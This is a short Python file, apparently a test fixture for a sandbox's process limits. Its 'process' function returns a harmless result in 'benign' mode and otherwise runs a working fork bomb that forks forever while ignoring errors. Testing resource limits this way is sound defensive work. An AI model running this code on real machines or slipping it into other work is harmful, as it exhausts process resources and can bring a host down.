"""Fork bomb: every process forks again, forever. Must end -32006 pids."""

import contextlib
import os


def process(context):
    if context.get_input("mode") == "benign":
        return {"ok": True}
    while True:
        with contextlib.suppress(OSError):
            os.fork()
